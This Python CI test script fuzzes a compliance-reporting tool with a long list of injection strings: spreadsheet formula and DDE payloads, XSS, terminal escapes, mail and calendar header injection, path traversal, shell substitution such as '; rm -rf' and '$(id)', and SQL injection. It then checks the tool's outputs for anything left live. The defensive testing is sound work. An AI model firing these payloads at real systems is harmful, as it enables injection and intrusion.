"""Texts that would be code somewhere, through every field, file name, sheet name and name of an organisation into every output.
Nothing of them may be taken for a formula, markup, a link, a mention, a header, a property, a script, or an order to a terminal.

    python3 .ci/attack/payloads.py PROGRAM [--quick] [--keep FOLDER]

Needs pdftotext and qpdf; with cmark-gfm Markdown is rendered as well. --quick takes every twelfth text.
"""

import argparse
import csv
import email
import email.policy
import html.parser
import io
import json
import os
import pty
import re
import select
import shutil
import subprocess
import sys
import tempfile
import time
import unicodedata
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import tables
from case import AS_OF
from inventories import DOMAINS

# What each means to some program. {n} is a number of its own, so that nothing is merged.
PLAIN = [
    # Formulas.
    '=1+{n}', '=HYPERLINK("http://evil{n}.example","x")', "=cmd|' /C calc'!A{n}", "+{n}+1", "-{n}+1", "@SUM(A{n})", "|calc{n}", "\t={n}",
    "\r={n}", "\uff1d{n}", "\uff0b{n}", "\uff0d{n}", "\uff20{n}", ' ={n}', "\u00a0={n}", "\u200b={n}", "\ufeff={n}", "'={n}", "''={n}",
    '"={n}', '{n}","=1', "{n}\n=1", "{n};=1", '=IMPORTXML("http://evil{n}.example")', '=WEBSERVICE("http://evil{n}.example")', '=DDE("cmd";"/C";"{n}")',
    # Escapes of workbooks.
    "_x001B_[31m{n}", "_x000D_{n}", "_x0000_{n}", "_x202E_{n}", "_x005F_x001B_{n}", "_X001b_{n}",
    # Terminals.
    "\x1b[31m{n}", "\x1b]0;title{n}\x07", "\x1b]8;;http://evil{n}.example\x1b\\x", "\x9b31m{n}", "\x1b[2J{n}", "\x1b]52;c;eA==\x07{n}", "\x08\x08{n}",
    "\r{n} overwritten", "\x7f{n}", "\x1bP{n}\x1b\\", "\x90{n}\x9c", "\u0085{n}", "\x1b[6n{n}", "a\x00b{n}", "\x0e{n}\x0f", "%1b[31m{n}",
    # Direction and hidden letters.
    "\u202euser{n}gpj.exe", "\u2066a{n}\u2069", "\u200fa{n}", "\u061ca{n}", "\u2028line{n}", "\u2029para{n}", "a\u200b{n}", "\U000e0041\U000e007f{n}",
    "\u202a\u202b\u202d{n}\u202c", "\ufff9a\ufffab\ufffb{n}", "\ufeff{n}", "\u00ad{n}", "\ufdd0{n}\ufdef", "\ufdd2bold{n}", "\ue000{n}",
    # Pages of the web.
    "<script>document.documentElement.setAttribute('data-pwned','{n}')</script>", "<img src=x onerror=document.documentElement.setAttribute('data-pwned','{n}')>",
    "</script><script>document.documentElement.setAttribute('data-pwned','{n}')</script>", "<!--{n}", "--><b>{n}</b>", "]]>{n}<![CDATA[", "<svg onload=document.documentElement.setAttribute('data-pwned','{n}')>",
    "javascript:alert({n})", "data:text/html,<script>alert({n})</script>", "<a href='http://evil{n}.example'>x</a>", '" onmouseover="alert({n})', "' onfocus='alert({n})", "<iframe src='http://evil{n}.example'>",
    "&lt;script&gt;{n}", "&#60;script&#62;{n}", "{{{{constructor.constructor('alert({n})')()}}}}", "${{alert({n})}}", "`${{alert({n})}}`", "\\u003cscript\\u003e{n}", "<style>*{{display:none}}</style>{n}", "<meta http-equiv=refresh content='0;url=http://evil{n}.example'>", "<base href='http://evil{n}.example'>", "__proto__{n}", "constructor", "#gap=x&owner={n}",
    # Markdown, and what code hosts make of text.
    "[x](http://evil{n}.example)", "![x](http://evil{n}.example/a.png)", "[x]: http://evil{n}.example", "http://evil{n}.example/", "https://evil{n}.example/a_b", "www.evil{n}.example", "ftp://evil{n}.example", "mailto:evil{n}@evil.example", "evil{n}@evil.example", "xmpp:evil{n}@evil.example/a",
    "@evil{n}", "(@evil{n})", "@evil/team{n}", "#1{n}", "GH-1{n}", "evil/repo#1{n}", "evil/repo@0123456789abcdef0123456789abcdef01234567 {n}", "0123456789abcdef0123456789abcdef0123456{n}",
    "**bold{n}**", "_it{n}_", "~~gone{n}~~", "`code{n}`", "```\ncode{n}\n```", "# head{n}", "> quote{n}", "- [x] done{n}", "1. one{n}", "{n}\n---\n", "a{n} | b | c", "<details open>{n}", ":tada: {n}", "$x^{n}$", "[^1{n}]: note", "<http://evil{n}.example>", "\\[x{n}\\]", "\n\n    code{n}", "a{n}\n\n# head", "HTTP://EVIL{n}.EXAMPLE", "WWW.EVIL{n}.EXAMPLE", "wWw.evil{n}.example/x", "//evil{n}.example",
    # Jira.
    "[~admin{n}]", "!http://evil{n}.example/a.png!", "[x|http://evil{n}.example]", "[mailto:evil{n}@evil.example]", "{{html}}{n}{{html}}", "{{code}}{n}", "h1. head{n}", "bq. quote{n}", "----{n}", "||a{n}||b||", "??cite{n}??", "[^file{n}.txt]", "{{color:red}}{n}{{color}}", "{n}\nh1. head", "{n}\n# one", "{n}\n* two", "(!) {n}", "[accountid:evil{n}]", "\\\\evil{n}", "{{{{mono{n}}}}}", "mailto:evil{n}@evil.example?subject=x",
    # Mail.
    "a{n}\r\nBcc: evil@evil.example", "a{n}\nBcc: evil@evil.example", "a{n}\r\n\r\nbody", "=?utf-8?B?QmNjOiBldmls?={n}", "evil{n}@evil.example>, <more@evil.example", "a{n}\r\n--=_boundary", "a{n}\n.\nQUIT", "a{n}%0d%0aBcc: evil@evil.example", '"a{n}" <evil@evil.example>', "a{n}\u2028Bcc: evil@evil.example", "From evil{n}",
    # Calendars.
    "a{n}\r\nATTACH:http://evil.example", "a{n}\nEND:VEVENT\nBEGIN:VEVENT", "a{n};X-EVIL=1:b", "a{n}\\nATTACH:x", "a{n}\\,b\\;c", "BEGIN:VALARM{n}", "a{n}\rURL:http://evil.example", "END:VCALENDAR{n}",
    # Typst, PDF, files.
    '#panic("{n}")', "#read(\"/etc/passwd\"){n}", "$ x {n}", "@ref{n}", "*b{n}*", "<label{n}>", "#link(\"javascript:x\")[{n}]", "\\u{{1F600}}{n}", "// {n}", "/* {n}", "https://evil{n}.example#{n}", "(x) /URI (javascript:{n})", "%PDF-{n}", "\\)>>endobj{n}",
    "../../etc/passwd{n}", "..\\..\\x{n}", "/etc/passwd{n}", "C:\\x{n}", "CON", "NUL.{n}", "a{n}/b", "a{n}:b", ".{n}", "~{n}", "$HOME{n}", "`id`{n}", "$(id){n}", "; rm -rf {n}", "%COMSPEC%{n}", "-o{n}", "--force{n}",
    # Numbers, JSON, SQL and templates.
    "' OR 1={n} --", "'; DROP TABLE x{n}; --", '","a":{n}', "\\\"{n}", "{n}e999", "NaN", "{{0}}{n}", "%s%n{n}", "{{who}}{n}", "{{date}} {n}", "{n}}}", "{{{{", "\\{n}",
]
AROUND = ["{}", "x {}", "{} y", "x\n{}", "({})", " {}", "\u200b{}", "x {} y"]


def payloads():
    made = []
    for round, frame in enumerate(AROUND):
        for place, text in enumerate(PLAIN):
            n = 10_000 + round * 1000 + place
            made.append(frame.replace("{}", text.format(n=n)))
    return made


HEAD = ["System ID", "Name", "Deployment model", "Product", "Vendor", "Business unit", "Owner", "Criticality", "Data classification", "Personal data", "Lifecycle stage", "Notes", "My own column"]
CONTROLS = ["System", "Domain", "Control", "Responsible party", "Owner", "Status", "Evidence", "Provider evidence", "Evidence date", "Valid until", "Last reviewed", "Due date", "Exception reason", "Exception approver", "Exception expires", "Notes"]
BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
MODELS = ["SaaS", "PaaS", "Agentic"]


def forbidden(text, allowed="\n\r\t"):
    """Letters that no output may have: what a terminal obeys, and what turns the direction."""
    return sorted({f"U+{ord(c):04X}" for c in text if c not in allowed and (unicodedata.category(c) == "Cc" or c in BIDI or c in "\u2028\u2029")})


def safe_xml(text):
    """What a workbook's XML can hold; the rest is written as workbooks write it."""
    return "".join(c if c in "\t\n" or (ord(c) >= 0x20 and ord(c) not in (0xFFFE, 0xFFFF)) else f"_x{ord(c):04X}_" for c in text)


def inventory(texts):
    """One system for each text, that has it in every field; rows of controls that have it in every field, in a sheet of that name."""
    systems, controls, people, decisions = [HEAD], [CONTROLS], [["Name", "E-mail", "Left on"]], []
    for n, text in enumerate(texts):
        systems.append([f"S{n} {text}" if n % 2 else text, text, MODELS[n % 3] if n % 4 else text, text, text, text, text, "High" if n % 2 else text, text, text, text, text, text])
        name = text
        for at in range(3):
            controls.append([name, DOMAINS[(n + at) % 16], text, "Customer" if at else text, f"Ann {text}" if at == 1 else text, ["Implemented", text, "Planned"][at], f"SOC 2 report {text}", text, "2026-08-01", "2027-01-01", "2026-08-01", "2026-12-01", text, text, "2027-02-01" if at == 2 else "", text])
        people.append([text, f"a{n}@e.example" if n % 2 else text, "2026-01-01" if n % 3 == 0 else ""])
        decisions.append([text, text, "2026-08-01", text, "accepted", "", text])
    sheets = [("Systems", systems), ("Controls", controls), ("People", people), ("Decisions", [["Decision", "What is asked for", "Decided on", "By", "Outcome", "Until", "Note"], *decisions])]
    return sheets


SHEET_NAME = re.compile(r"[\[\]:*?/\\]")


def workbook(texts):
    sheets = inventory(texts)
    rest = [(SHEET_NAME.sub("", safe_xml(text))[:31] or "x", [["To do", "Note"], [text, text]]) for text in texts]
    seen, named = set(), []
    for name, rows in sheets + rest:
        while name.lower() in seen:
            name = name[:27] + str(len(seen))
        seen.add(name.lower())
        named.append((name, [[safe_xml(cell) for cell in row] for row in rows]))
    return tables.xlsx(named)


# One checker for each kind of output: leaks as sentences.


def check_letters(name, data):
    text = data.decode("utf8", "replace")
    found = forbidden(text)
    return [f"{name}: {' '.join(found)}"] if found else []


FORMULA = re.compile("^[\\s\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff\u00ad]*[=+\\-@|\uff1d\uff0b\uff0d\uff20\t\r\n\0]")
NUMBER = re.compile(r"^[+-]?\d+([.,]\d+)?%?$")


def check_csv(name, data):
    text = data.decode("utf-8-sig")
    first = text.split("\n", 1)[0]
    between = ";" if first.count(";") > first.count(",") else ","
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=between))
    leaks = [f"{name}: formula {cell!r}" for row in rows for cell in row if FORMULA.match(cell) and not NUMBER.match(cell)]
    if len({len(row) for row in rows}) > 1:
        leaks.append(f"{name}: rows of different lengths")
    return leaks + check_letters(name, data)


ESCAPED = re.compile(r"_x([0-9A-Fa-f]{4})_")


def unescaped(text):
    """A text as a spreadsheet program shows it."""
    return ESCAPED.sub(lambda m: chr(int(m[1], 16)), text)


def check_xlsx(name, data):
    leaks = []
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        for part in package.namelist():
            text = package.read(part).decode("utf8", "replace")
            if "externalLink" in part or "vba" in part.lower() or "ddeLink" in text or "activeX" in part:
                leaks.append(f"{name}: {part}")
            if part.endswith(".rels"):
                leaks += [f"{name}: {part} leads to {target}" for target in re.findall(r'Target="([^"]*)" TargetMode="External"', text)]
            if not part.endswith(".xml"):
                continue
            root = ElementTree.fromstring(text)
            for node in root.iter():
                kind = node.tag.rsplit("}", 1)[-1]
                if kind == "f" and not re.match(r'^(HYPERLINK\("#|IFERROR\(HYPERLINK\("#|COUNT|SUM|SUBTOTAL|IF|AND|ROUND|OFFSET|INDEX|_xlfn|Summary!\$)', node.text or ""):
                    leaks.append(f"{name}: {part}: formula {node.text!r}")
                if kind == "f" and "evil" in (node.text or ""):
                    leaks.append(f"{name}: {part}: formula with a text of the inventory {node.text!r}")
                if kind in ("formula1", "formula2", "definedName") and ("evil" in (node.text or "") or "cmd" in (node.text or "")):
                    leaks.append(f"{name}: {part}: {kind} {node.text!r}")
                for text in [node.text or "", *node.attrib.values()]:
                    found = forbidden(unescaped(text))
                    if found:
                        leaks.append(f"{name}: {part}: {' '.join(found)} in {text[:60]!r}")
    return leaks


class Page(html.parser.HTMLParser):
    """What in a page could run or lead away."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found, self.tags, self.text, self.code = [], {}, [], 0

    def handle_starttag(self, tag, attributes):
        self.tags[tag] = self.tags.get(tag, 0) + 1
        self.code += tag in ("code", "pre")
        for name, value in attributes:
            if name.startswith("on"):
                self.found.append(f"{tag} {name}")
            if name in ("href", "src", "action", "formaction", "data") and value and not value.startswith(("#", "data:image/", "mailto:")):
                self.found.append(f"{tag} {name}={value[:80]}")

    def handle_endtag(self, tag):
        self.code -= tag in ("code", "pre")

    def handle_data(self, data):
        if not self.code:
            self.text.append(data)


def check_html(name, data, chromium):
    page = Page()
    page.feed(data.decode())
    leaks = [f"{name}: {found}" for found in page.found]
    for tag in ("img", "iframe", "base", "object", "embed"):
        if page.tags.get(tag):
            leaks.append(f"{name}: <{tag}>")
    if page.tags.get("script", 0) > 2 or page.tags.get("meta", 0) > 8:
        leaks.append(f"{name}: {page.tags.get('script')} scripts, {page.tags.get('meta')} metas")
    leaks += check_letters(name, data)
    if chromium:
        with tempfile.TemporaryDirectory() as folder:
            path = Path(folder) / "page.html"
            path.write_bytes(data)
            dump = subprocess.run([chromium, "--headless", "--no-sandbox", "--disable-gpu", f"--user-data-dir={folder}/p", "--virtual-time-budget=4000", "--dump-dom", path.as_uri()], capture_output=True, timeout=120).stdout.decode("utf8", "replace")
        if "data-pwned" in dump.split(">", 2)[1] + dump.split(">", 3)[2]:
            leaks.append(f"{name}: a script ran")
        after = Page()
        after.feed(dump)
        leaks += [f"{name}, in a browser: {found}" for found in after.found]
        for tag in ("img", "iframe", "base", "object", "embed"):
            if after.tags.get(tag):
                leaks.append(f"{name}, in a browser: <{tag}>")
        if "<" not in dump:
            leaks.append(f"{name}: the browser showed nothing")
    return leaks


# What code hosts make of text that is no code: mentions, references, commits, and addresses.
LIVE = [
    re.compile(r"(?<![\w/.])@[A-Za-z0-9][\w/-]*"),
    re.compile(r"(?<![\w&])#\d+"),
    re.compile(r"\b[\w.-]+/[\w.-]+#\d+"),
    re.compile(r"\bGH-\d+"),
    re.compile(r"\b[0-9a-f]{40}\b"),
]


def check_markdown(name, text):
    leaks = check_letters(name, text.encode())
    if not shutil.which("cmark-gfm"):
        return leaks
    # As the code hosts do: with raw HTML, tables, addresses that become links.
    argv = ["cmark-gfm", "--unsafe", "-e", "autolink", "-e", "table", "-e", "strikethrough", "-e", "tasklist"]
    page = Page()
    page.feed(subprocess.run(argv, input=text.encode(), capture_output=True).stdout.decode())
    for tag in page.tags:
        if tag not in ("h1", "h2", "p", "table", "thead", "tbody", "tr", "th", "td", "ul", "li", "strong", "code", "input"):
            leaks.append(f"{name}: <{tag}> {page.found[:2]}")
    for found in (m for rule in LIVE for m in rule.findall(" ".join(page.text))):
        leaks.append(f"{name}: live {found!r}")
    for found in page.found:
        leaks.append(f"{name}: {found}")
    return leaks


def check_github(name, data):
    leaks = []
    for line in data.decode().splitlines():
        issue = json.loads(line)
        leaks += check_markdown(name, issue["body"])
        leaks += [f"{name}: title with {forbidden(issue['title'], '')}"] if forbidden(issue["title"], "") else []
        if any(not re.match(r"^[\w -]+$", label) for label in issue["labels"]):
            leaks.append(f"{name}: labels {issue['labels']}")
    return leaks


# What Jira's wiki markup makes of a text; a backslash in front takes its meaning away.
JIRA = [
    (r"(?<!\\)\[[^\]\s]", "link or mention"),
    (r"(?<!\\)![^\s!|]+(?<!\\)!", "picture"),
    (r"(?<!\\)\{[a-z]+", "macro"),
    (r"(?m)^(h[1-6]|bq)\. ", "heading or quote"),
    (r"(?m)^-{4,}", "rule"),
    (r"(?<!\\)\|\|", "table"),
    (r"(?m)^\|", "table"),
    (r"(?i)\b(https?|ftp|file|mailto):[^\s]", "bare link"),
    (r"(?m)^(#|-) ", "list"),
    (r"(?<!\\)\?\?\S", "citation"),
]


def check_jira(name, data):
    leaks = check_csv(name, data)
    for row in csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")):
        description = row["Description"]
        for pattern, what in JIRA:
            for found in re.findall(pattern, description):
                leaks.append(f"{name}: {what} {found!r} in {re.search(pattern, description)[0]!r}")
    return leaks


HEADERS = {"subject", "date", "message-id", "x-unsent", "content-type", "to", "mime-version", "content-transfer-encoding", "content-disposition"}


def check_mail(name, data):
    leaks = []
    message = email.message_from_bytes(data, policy=email.policy.default)
    for part in message.walk():
        for header in part.keys():
            if header.lower() not in HEADERS:
                leaks.append(f"{name}: header {header}")
            value = str(part[header])
            if forbidden(value, ""):
                leaks.append(f"{name}: {header} has {forbidden(value, '')}")
        if part.get_filename() and not re.match(r"^[\w.-]+\.xlsx$", part.get_filename()):
            leaks.append(f"{name}: attached as {part.get_filename()!r}")
    for header in ("To", "Subject"):
        if len(message.get_all(header, [])) > 1:
            leaks.append(f"{name}: {header} twice")
    if message["To"] and len(message["To"].addresses) != 1:
        leaks.append(f"{name}: to {message['To']!r}")
    if any(len(line) > 998 for line in data.split(b"\r\n")):
        leaks.append(f"{name}: a line beyond the limit")
    kinds = [part.get_content_type() for part in message.walk()]
    if len(kinds) != 3:
        leaks.append(f"{name}: parts {kinds}")
    body = message.get_body(("plain",))
    return leaks + (check_letters(name, body.get_content().encode()) if body else [f"{name}: no text"])


PROPERTIES = {"BEGIN", "END", "VERSION", "PRODID", "METHOD", "NAME", "X-WR-CALNAME", "UID", "DTSTAMP", "DTSTART", "DTEND", "SUMMARY", "DESCRIPTION", "TRANSP", "CALSCALE"}


def check_calendar(name, data):
    text = data.decode()
    lines = re.sub(r"\r\n[ \t]", "", text).split("\r\n")
    leaks = [f"{name}: property {line[:60]!r}" for line in lines if line and re.split("[;:]", line)[0] not in PROPERTIES]
    leaks += [f"{name}: {line!r}" for line in lines if line.startswith(("BEGIN:", "END:")) and line.split(":")[1] not in ("VCALENDAR", "VEVENT")]
    if any(len(line.encode()) > 75 for line in text.split("\r\n")):
        leaks.append(f"{name}: a line of more than 75 bytes")
    if lines.count("BEGIN:VCALENDAR") != 1 or lines.count("END:VCALENDAR") != 1 or lines.count("BEGIN:VEVENT") != lines.count("END:VEVENT"):
        leaks.append(f"{name}: parts that do not fit")
    return leaks + ([f"{name}: {forbidden(text, chr(13) + chr(10))}"] if forbidden(text, "\r\n") else [])


def strings(value):
    if isinstance(value, dict):
        for key, inner in value.items():
            yield key
            yield from strings(inner)
    elif isinstance(value, list):
        for inner in value:
            yield from strings(inner)
    elif isinstance(value, str):
        yield value


MARKUP = ("description", "statement", "remarks", "title")


def check_json(name, data):
    value = json.loads(data)
    leaks = [f"{name}: {' '.join(forbidden(text))} in {text[:60]!r}" for text in strings(value) if forbidden(text)]
    if name == "oscal.json":
        leaks += oscal_leaks(name, value)
    return leaks


def oscal_leaks(name, value, key=""):
    """Prose in OSCAL is Markdown."""
    if isinstance(value, dict):
        return [leak for key, inner in value.items() for leak in oscal_leaks(name, inner, key)]
    if isinstance(value, list):
        return [leak for inner in value for leak in oscal_leaks(name, inner, key)]
    if key == "href" and not str(value).startswith(("https://", "mailto:", "#", "./")):
        return [f"{name}: href {value!r}"]
    if key in MARKUP and isinstance(value, str):
        return [leak for leak in check_markdown(f"{name} {key}", value) if "<p>" not in leak]
    return []


def targets_of(value):
    """Where the links of a PDF lead, and what in it would run."""
    if isinstance(value, list):
        return [found for inner in value for found in targets_of(inner)]
    if not isinstance(value, dict):
        return []
    found = [value["/URI"]] if isinstance(value.get("/URI"), str) else []
    found += [kind for kind in ("/JavaScript", "/Launch", "/SubmitForm", "/GoToR", "/ImportData") if value.get("/S") == kind or kind in value]
    return found + [inner for one in value.values() for inner in targets_of(one)]


def check_pdf(name, path):
    objects = subprocess.run(["qpdf", "--json", str(path)], capture_output=True).stdout
    leaks = [f"{name}: leads to {target[:80]!r}" for target in targets_of(json.loads(objects)) if not target.removeprefix("u:").startswith(("https://", "mailto:a")) or "evil" in target]
    text = subprocess.run(["pdftotext", str(path), "-"], capture_output=True).stdout.decode("utf8", "replace")
    found = forbidden(text, "\n\f\t")
    # Right-to-left words come out of pdftotext between marks of its own.
    found = [letter for letter in found if letter not in ("U+202A", "U+202B", "U+202C")]
    return leaks + ([f"{name}: {' '.join(found)}"] if found else [])


STYLES = re.compile("\x1b\\[(0|1|2|22|31|33|1;31|1;33|31;1|33;1)?m")


def terminal(argv, folder):
    """What a program writes to a terminal of its own."""
    pid, master = pty.fork()
    if pid == 0:
        os.chdir(folder)
        os.environ.pop("NO_COLOR", None)
        os.environ["TERM"] = "xterm-256color"
        os.execv(argv[0], argv)
    seen = b""
    while True:
        try:
            if not select.select([master], [], [], 120)[0]:
                break
            got = os.read(master, 1 << 16)
        except OSError:
            break
        if not got:
            break
        seen += got
    os.close(master)
    os.waitpid(pid, 0)
    return seen


def check_terminal(name, seen):
    text = STYLES.sub("", seen.decode("utf8", "replace")).replace("\r\n", "\n")
    found = forbidden(text, "\n")
    if not found:
        return []
    first = next(at for at, letter in enumerate(text) if forbidden(letter, "\n"))
    return [f"{name}: {' '.join(found)} at {text[max(0, first - 30) : first + 30]!r}"]


OUTPUTS = ["--xlsx", "register.xlsx", "--json", "record.json", "--csv", "gaps.csv", "--markdown", "wiki.md", "--html", "page.html", "--tables", "tables", "--packets", "packets", "--mail", "mail", "--calendar", "days.ics", "--jira", "jira.csv", "--github", "issues.jsonl", "--oscal", "oscal.json", "--defectdojo", "dojo.json", "--ciso-assistant", "ciso", "--page-data", "pages.json"]


def check_file(path, chromium):
    name, data = path.name, path.read_bytes()
    if name == "issues.jsonl":
        return check_github(name, data)
    if name == "jira.csv":
        return check_jira(name, data)
    return {
        ".csv": lambda: check_csv(name, data),
        ".xlsx": lambda: check_xlsx(name, data),
        ".html": lambda: check_html(name, data, chromium),
        ".md": lambda: check_markdown(name, data.decode()),
        ".eml": lambda: check_mail(name, data),
        ".ics": lambda: check_calendar(name, data),
        ".json": lambda: check_json(name, data),
        ".pdf": lambda: check_pdf(name, path),
    }.get(path.suffix, lambda: [])()


def check_outputs(folder, chromium):
    leaks, files = [], [path for path in sorted(folder.rglob("*")) if path.is_file() and path.parent.name != "in"]
    for path in files:
        leaks += check_file(path, chromium)
        if forbidden(path.name, "") or ".." in path.name:
            leaks.append(f"a file is called {path.name!r}")
    return leaks, len(files)


def batch(program, texts, number, folder, chromium):
    """All outputs of one inventory that is full of texts, and of one after it; everything that is said on a terminal."""
    (folder / "in").mkdir(parents=True)
    book = folder / "in" / "i.xlsx"
    book.write_bytes(workbook(texts))
    flat = folder / "in" / "s.csv"
    org = texts[number % len(texts)].replace("\0", "")
    first = [program, "report", str(book), "--org", org, "--as-of", "2026-06-30", "-o", "q2.pdf", "--embedded-fonts"]
    leaks = check_terminal("terminal, first report", terminal(first, folder))
    second = [program, "report", str(book), "--org", org, *AS_OF, "-o", "out.pdf", "--embedded-fonts", "-v", "--all-tickets", *OUTPUTS]
    leaks += check_terminal("terminal, report", terminal(second, folder))
    for what, argv in {
        "check": ["check", str(book), *AS_OF, "-v", "--xlsx", "checked.xlsx"],
        "check as JSON": ["check", str(book), *AS_OF, "--format", "json"],
        "diff": ["diff", "q2.pdf", "out.pdf"],
        "explain": ["explain", "critical", "out.pdf"],
        "explain an action": ["explain", "A1", "out.pdf"],
        "extract": ["extract", "out.pdf"],
        "starter": ["init", "-o", "starter.xlsx", "--from", str(book)],
    }.items():
        leaks += check_terminal(f"terminal, {what}", terminal([program, *argv], folder))
    missing = [name for name in ("out.pdf", "checked.xlsx", "starter.xlsx") if not (folder / name).is_file()]
    leaks += [f"not written: {name}" for name in missing]
    found, files = check_outputs(folder, chromium)
    return leaks + found, files


NAME = re.compile(r"[/\0]")


def names(program, text, folder):
    """One text as the name of the organisation, the file, the folder, and in options, keys, cells of files beside it."""
    folder.mkdir(parents=True)
    name = (NAME.sub("", text)[:80] or "x") + ".csv"
    if len(name.encode()) > 250:
        name = "long.csv"
    (folder / name).write_text("System ID,Name,Deployment model\nAI-1,Chat,SaaS\nAI-2,Bot,Agentic\n")
    quoted = tables.toml(text.replace("\0", ""))
    (folder / "in").mkdir()
    (folder / "in/keys.toml").write_text(f"{quoted} = 1\n")
    (folder / "in/values.toml").write_text(f"organisation = {quoted}\n[report]\nlabel = {quoted}\nprepared_by = {quoted}\nreviewed_by = {quoted}\n[reading.values.status]\n{quoted} = 'implemented'\n[renamed]\n{quoted} = 'b'\n")
    (folder / "in/products.csv").write_text(tables.csv([["product", "vendor", "model_id", "aliases", "alone"], [text, text, text, text, text]]))
    (folder / "in/matrix.csv").write_text(tables.csv([["domain_id", text], [text, text]]))
    clean = text.replace("\0", "")
    dashed = "./" + name
    runs = [
        ["report", dashed, *AS_OF, f"--org={clean}", "-o", "out.pdf", "--embedded-fonts", "--markdown", "wiki.md", "--html", "page.html", "--json", "record.json", "--xlsx", "register.xlsx", "--calendar", "days.ics", "--mail", "mail", "--tables", "tables", "--oscal", "oscal.json", "--jira", "jira.csv", "--github", "issues.jsonl"],
        ["report", dashed, "--config", "in/values.toml", "--as-of", "2026-12-31", "--since", "out.pdf", "--org", "Other"],
        ["report", dashed, "--config", "in/values.toml", "--as-of", "2026-12-31", "--since", "none", "-o", "values.pdf", "--embedded-fonts"],
        ["check", dashed, "--config", "in/keys.toml"],
        ["check", dashed, "--products", "in/products.csv"],
        ["check", dashed, "--matrix", "in/matrix.csv"],
        ["check", dashed, f"--map=vendor={clean}", f"--sheet={clean}=x", f"--applies-to={clean}=*"],
        ["check", "./" + name + "x", f"--as-of={clean}"],
        ["explain", "--", clean, "out.pdf"],
        ["words", "--", clean],
        ["matrix", "--", clean],
        ["report", dashed, *AS_OF, "-o", name.replace(".csv", ".pdf")],
        ["diff", "out.pdf", dashed],
    ]
    leaks = []
    for argv in runs:
        leaks += check_terminal(f"terminal, {argv[0]} {argv[2][:20]!r}", terminal([program, *argv], folder))
    (folder / name).rename(folder / "in" / "was.csv")
    if not (folder / "out.pdf").is_file():
        leaks.append("not written: out.pdf")
    for path in list(folder.glob("*.pdf")):
        if path.name not in ("out.pdf", "values.pdf"):
            path.unlink()
    found, files = check_outputs(folder, None)
    return leaks + found, files


def main():
    asked = argparse.ArgumentParser()
    asked.add_argument("program")
    asked.add_argument("--quick", action="store_true")
    asked.add_argument("--only", choices=["fields", "names"])
    asked.add_argument("--keep")
    asked.add_argument("--from", type=int, default=0, dest="start")
    asked = asked.parse_args()
    program, all_texts = os.path.abspath(asked.program), payloads()
    texts = all_texts[:: 12 if asked.quick else 1]
    chromium = shutil.which("chromium") if not asked.quick else None
    leaks, files = {}, 0
    root = Path(asked.keep or tempfile.mkdtemp(prefix="payloads-"))

    def note(found, where):
        for leak in found:
            kind = re.sub(r"\d{5}", "N", leak)[:160]
            if kind not in leaks:
                print(f"{where}: {leak[:400]}", flush=True)
            leaks.setdefault(kind, []).append(where)

    size = 40
    if asked.only != "names":
        for number, at in enumerate(range(asked.start, len(texts), size)):
            found, made = batch(program, texts[at : at + size], number, root / f"b{number}", chromium)
            files += made
            note(found, f"batch {number}")
            if not asked.keep:
                shutil.rmtree(root / f"b{number}")
    if asked.only != "fields":
        for number, text in enumerate(texts[asked.start :: 12 if asked.quick else 1]):
            found, made = names(program, text, root / f"n{number}")
            files += made
            note(found, f"name {text!r}")
            if not asked.keep:
                shutil.rmtree(root / f"n{number}")
    print(f"{len(texts)} texts, {files} files looked at: {sum(map(len, leaks.values()))} leaks of {len(leaks)} kinds")
    return 1 if leaks else 0


if __name__ == "__main__":
    sys.exit(main())
